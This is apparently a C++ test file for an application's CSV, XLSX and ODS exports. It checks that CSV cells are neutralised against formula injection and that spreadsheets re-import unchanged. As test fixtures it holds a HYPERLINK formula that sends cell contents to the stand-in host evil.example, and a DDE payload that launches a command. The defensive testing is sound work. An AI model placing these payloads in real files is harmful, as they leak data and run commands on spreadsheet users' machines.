// CSV injection in every CSV Terrier writes (the export, the import's reject
// report), and the spreadsheet exports (XLSX, ODS): French headers, values as
// people write them, and a round trip export → re-import that changes nothing.

#include <regex>

#include "tests/api/api_fixture.hpp"

namespace terrier::test {
namespace {

const std::string kFormula = "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Cliquez\")";

// The cells of a CSV file as ogrinfo reads them (every field as text).
std::vector<std::string> csv_cells(const std::string& file) {
  auto dump = run_command("ogrinfo -ro -al -oo AUTODETECT_TYPE=NO " + file);
  std::vector<std::string> out;
  std::regex cell(R"(^  [^\n]+ \(String\) = (.*)$)");
  std::smatch m;
  std::istringstream lines(dump);
  for (std::string line; std::getline(lines, line);) {
    if (std::regex_match(line, m, cell)) out.push_back(m[1].str());
  }
  return out;
}

bool starts_like_formula(const std::string& cell) {
  return !cell.empty() && std::string("=+-@\t\r").find(cell[0]) != std::string::npos;
}

}  // namespace

class CsvInjection : public ApiTest {
 protected:
  void SetUp() override {
    ApiTest::SetUp();
    pqxx::work w(*conn_);
    w.exec_params0(
        "UPDATE opportunities SET title = $1, address = '-1 rue du Moins' "
        "WHERE external_id = 'T-1'",
        kFormula);
    w.exec0(
        "UPDATE opportunity_private SET owner_contact = '+33 3 20 00 00 00', "
        "notes = '@SUM(1+1)' WHERE opportunity_id = (SELECT id FROM opportunities "
        "WHERE external_id = 'T-1')");
    w.commit();
  }
};

TEST_F(CsvInjection, ExportedTextCellsNeverStartAFormulaAndNumbersStayNumbers) {
  auto r = get("/api/territories/lille-59350/export?format=csv", foundation_);
  ASSERT_EQ(r.status, 200) << r.body;
  std::string file = "/tmp/terrier-injection-" + db_.name() + ".csv";
  std::ofstream(file, std::ios::binary) << r.body;
  auto cells = csv_cells(file);
  std::remove(file.c_str());
  ASSERT_GT(cells.size(), 10u) << r.body;
  for (const auto& c : cells) EXPECT_FALSE(starts_like_formula(c)) << c;
  auto has = [&](const std::string& v) {
    return std::find(cells.begin(), cells.end(), v) != cells.end();
  };
  EXPECT_TRUE(has("'" + kFormula)) << r.body;
  EXPECT_TRUE(has("'-1 rue du Moins"));
  EXPECT_TRUE(has("'+33 3 20 00 00 00"));
  EXPECT_TRUE(has("'@SUM(1+1)"));
  // Numbers are written as numbers, without an apostrophe.
  EXPECT_TRUE(has("1200")) << r.body;
  EXPECT_TRUE(has("1250.5")) << r.body;
  EXPECT_EQ(r.body.find("'1200"), std::string::npos);
  // The other formats keep the value as it is (a cell there is typed text).
  auto gj = get("/api/territories/lille-59350/export?format=geojson", foundation_);
  EXPECT_NE(gj.body.find("\"title\": \"=HYPERLINK"), std::string::npos) << gj.body.substr(0, 600);
}

TEST_F(CsvInjection, TheRejectReportNeutralisesTheRejectedValues) {
  std::string in = "/tmp/terrier-injection-in-" + db_.name() + ".csv";
  std::string report = "/tmp/terrier-injection-report-" + db_.name() + ".csv";
  std::ofstream(in) << "Réf.;Intitulé;Latitude;Longitude;Surface bâtie (m²)\n"
                       "R-1;=1+2;50,63;3,06;=HYPERLINK(\"http://evil.example\")\n"
                       "R-2;Correct;50,63;3,06;-cmd|' /C calc'!A0\n";
  auto r = run_terrier("import opportunities " + in + " --reject-report " + report,
                       "TERRIER_DATABASE_URL=" + db_.url());
  EXPECT_NE(r.output.find("rejected 2"), std::string::npos) << r.output;
  std::ifstream f(report, std::ios::binary);
  std::string text((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
  std::remove(in.c_str());
  std::remove(report.c_str());
  EXPECT_NE(text.find("\"'=HYPERLINK(\"\"http://evil.example\"\")\""), std::string::npos) << text;
  EXPECT_NE(text.find("\"'-cmd|' /C calc'!A0\""), std::string::npos) << text;
  EXPECT_EQ(text.find(";\"=HYPERLINK"), std::string::npos) << text;
  EXPECT_EQ(text.find(";\"-cmd"), std::string::npos) << text;
}

class SpreadsheetExport : public ApiTest {
 protected:
  CommandResult terrier(const std::string& args) {
    return run_terrier(args, "TERRIER_DATABASE_URL=" + db_.url());
  }
  // Exports the opportunities, re-imports the sheet with the rows' source.
  std::string round_trip(const std::string& format) {
    std::string file = "/tmp/terrier-sheet-" + db_.name() + "." + format;
    auto e = terrier("export --format " + format + " --layers opportunities -o " + file);
    EXPECT_EQ(e.exit_code, 0) << e.output;
    long long runs = count("SELECT count(*) FROM import_runs");
    auto i = terrier("import opportunities " + file + " --source cp1252_french");
    EXPECT_EQ(i.exit_code, 0) << i.output;
    // The fixture's note written with "\r\n" inside a CSV cell reads back
    // from the sheet as the same text (line breaks are "\n" on import).
    EXPECT_NE(i.output.find("read 3, inserted 0, updated 0, unchanged 3, "), std::string::npos)
        << i.output;
    EXPECT_NE(i.output.find(", rejected 0"), std::string::npos) << i.output;
    auto again = terrier("export --format " + format + " --layers opportunities -o " + file);
    EXPECT_EQ(again.exit_code, 0) << again.output;
    auto second = terrier("import opportunities " + file + " --source cp1252_french");
    EXPECT_NE(second.output.find("read 3, inserted 0, updated 0, unchanged 3, rejected 0"),
              std::string::npos)
        << second.output;
    // Only the import's own record is new.
    EXPECT_EQ(count("SELECT count(*) FROM import_runs"), runs + 2);
    auto info = run_command("ogrinfo -ro -al " + file);
    std::remove(file.c_str());
    return info;
  }
};

TEST_F(SpreadsheetExport, XlsxHasFrenchHeadersTypedCellsAndReimportsUnchanged) {
  auto info = round_trip("xlsx");
  EXPECT_NE(info.find("Layer name: opportunites"), std::string::npos) << info;
  EXPECT_NE(info.find("Référence (String) = T-1"), std::string::npos) << info;
  EXPECT_NE(info.find("Intitulé (String) = Ancienne école Jules Ferry"), std::string::npos);
  EXPECT_NE(info.find("Surface bâtie (m²) (Real) = 1250.5"), std::string::npos) << info;
  EXPECT_NE(info.find("Loyer (€/mois) (Integer) = 1200"), std::string::npos) << info;
  EXPECT_NE(info.find("Disponible à partir du (Date) = 2026/03/01"), std::string::npos) << info;
  EXPECT_TRUE(std::regex_search(info, std::regex(R"(Modalités \(String\) = [^\[\n]+, [^\]\n]+\n)")))
      << info;  // "bcus, location", not a JSON array
  EXPECT_NE(info.find("Propriétaire (String) = Commune de Lille"), std::string::npos);
  EXPECT_NE(info.find("Source Terrier (String) = cp1252_french"), std::string::npos);
}

TEST_F(SpreadsheetExport, OdsReimportsUnchanged) {
  auto info = round_trip("ods");
  EXPECT_NE(info.find("Référence (String) = T-2"), std::string::npos) << info;
  EXPECT_NE(info.find("Visibilité (String) = réseau"), std::string::npos) << info;
}

}  // namespace terrier::test
